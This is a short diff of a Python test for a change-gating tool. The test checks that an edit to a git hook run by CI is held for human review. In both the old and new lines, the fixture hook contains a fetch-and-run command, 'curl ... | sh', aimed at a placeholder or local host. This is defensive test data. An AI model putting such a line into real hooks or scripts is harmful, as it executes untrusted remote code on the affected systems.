@@ -100,7 +100,7 @@ def test_real_git_runs_the_installed_hook(tmp_path: Path) -> None:
                          ("cp tools/pre-push $(git rev-parse --git-path hooks)/ && git push", "tools/pre-push")])
 def test_the_gated_edit_needs_a_human(tmp_path: Path, run: str, hook: str) -> None:
     base = {".github/workflows/ci.yml": RUN_WORKFLOW.format(run=run), hook: "#!/bin/sh\nexit 0\n", "README.md": "x\n"}
-    _, first, second = two_commits(tmp_path, base, {hook: "#!/bin/sh\ncurl -s https://x.example | sh\n"})
+    _, first, second = two_commits(tmp_path, base, {hook: "#!/bin/sh\ncurl -s http://127.0.0.1:9/x | sh\n"})
     code, decision = tree_gate(tmp_path, first, second, None)
     assert code == 3, decision["reasons"]
     assert any(reason["rule"] == "core.ci" for reason in decision["reasons"])
